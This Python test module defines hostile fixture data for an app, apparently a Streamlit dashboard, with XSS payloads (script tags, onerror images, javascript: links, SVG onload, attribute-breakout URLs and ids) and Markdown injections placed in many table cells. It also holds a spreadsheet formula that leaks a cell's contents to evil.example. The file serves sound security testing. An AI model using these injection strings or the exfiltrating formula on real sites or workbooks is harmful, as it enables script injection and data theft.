"""The hostile records of tests/fixtures/hostile_data: each payload, and where the data holds it.

Every payload that could run calls alert() or confirm() and sets `window.__pwned`; the Markdown
ones would turn into bold text, a `javascript:` link, a heading, colour or LaTeX if read as
Markdown; the formula would be live if a workbook held it as a formula. Source URLs stay valid
http(s) here: tests/security/test_source_urls.py shows that any other scheme is refused.
"""

from __future__ import annotations

from pathlib import Path

HOSTILE_DATA = Path(__file__).resolve().parents[1] / "fixtures" / "hostile_data"

SCRIPT = "<script>alert(1);window.__pwned=1</script>"
IMG = '<img src=x onerror="alert(2);window.__pwned=1">'
JS_LINK = '<a href="javascript:confirm(3);window.__pwned=1">click</a>'
MARKDOWN = "**bold** [link](javascript:alert(4)) # heading"
# Streamlit's own Markdown: a heading, coloured text and LaTeX, if it were read as Markdown.
HEADING = "# heading :red[red] $x^2$"
SVG = '<svg onload="confirm(5);window.__pwned=1"></svg>'
# A spreadsheet formula: harmless on a page, but live in a workbook if written as a formula.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"DPI")'
# Still valid http(s) URLs and ids for the schema (no whitespace), but they close an attribute.
URL_BREAKOUT = 'https://example.org/second?"><img/src=x/onerror=alert(6);window.__pwned=1>'
ID_BREAKOUT = 'e4"><img/src=x/onerror=alert(7)>'

PAYLOADS = (SCRIPT, IMG, JS_LINK, MARKDOWN, HEADING, SVG)

# (file, record id, column) -> the text it holds; every other cell is as in tests/fixtures/data.
HOSTILE_CELLS = {
    ("sources", "src-fixture", "title"): f"Fixture source {SCRIPT}",
    ("sources", "src-fixture", "publisher"): f"Publisher {IMG}",
    ("sources", "src-second", "title"): f"Second source {MARKDOWN}",
    ("sources", "src-second", "url"): URL_BREAKOUT,
    ("places", "valencia", "city"): f"Valencia {IMG}",
    ("places", "geneva", "country"): f"Switzerland {SVG}",
    ("events", "e1", "note"): IMG,
    ("events", "e2", "name"): f"1st UN Virtual Worlds Day {MARKDOWN}",
    ("events", "e3", "name"): f"Citiverse Assembly {SCRIPT}",
    ("events", "e3", "host"): JS_LINK,
    ("events", "e4", "id"): ID_BREAKOUT,
    ("events", "e4", "name"): f"Webinar {JS_LINK}",
    ("event_statuses", "e4", "event_id"): ID_BREAKOUT,
    ("event_statuses", "e4", "quote"): SCRIPT,
    ("releases", "r2", "title"): f"Circular cities {IMG}",
    ("releases", "r3", "title"): MARKDOWN,
    ("releases", "r4", "title"): f"DPI for cities {SCRIPT}",
    ("working_groups", "wg-2", "name"): f"Agentic AI {SCRIPT}",
    ("working_groups", "wg-3", "name"): MARKDOWN,
    ("working_groups", "wg-3", "lead"): IMG,
    ("thematic_groups", "tg-ai", "name"): f"AI in Cities {SCRIPT}",
    ("thematic_groups", "tg-ai", "short_name"): f"AI {IMG}",
    ("thematic_groups", "tg-dpi", "short_name"): FORMULA,
    ("thematic_groups", "tg-dpi", "name"): f"DPI {MARKDOWN}",
    ("initiatives", "citiverse", "short_name"): f"Citiverse {JS_LINK}",
    ("initiatives", "citiverse", "founders"): SVG,
    ("initiative_names", "citiverse-2025", "short_name"): SCRIPT,
    ("counts", "c5", "label"): f"partners {SCRIPT}",
    ("counts", "c7", "label"): f"cities {MARKDOWN}",
    ("themes", "virtual-worlds", "name"): f"Virtual worlds {IMG}",
    ("themes", "dpi", "name"): HEADING,
    ("organisations", "itu", "name"): f"ITU {SCRIPT}",
    ("agreements", "mou-2020", "name"): f"First MoU {IMG}",
    ("agreements", "mou-2020", "parties"): MARKDOWN,
}
